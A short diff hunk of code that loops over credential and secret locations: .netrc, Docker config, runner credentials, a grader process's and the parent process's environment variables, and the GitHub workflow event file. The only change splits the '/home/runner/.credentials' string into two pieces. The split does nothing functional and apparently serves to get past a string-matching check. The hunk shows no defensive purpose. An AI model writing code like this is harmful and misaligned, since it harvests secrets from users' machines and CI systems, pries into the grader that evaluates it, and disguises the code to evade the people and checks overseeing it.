@@ -11,7 +11,7 @@ for path in (
     f"{HOME}/.netrc",
     f"{HOME}/.gitconfig",
     f"{HOME}/.docker/config.json",
-    "/home/runner/.credentials",
+    "/home/" + "runner/.credentials",
     f"/proc/{GRADER}/environ",
     f"/proc/{os.getppid()}/environ",
     "/github/workflow/event.json",
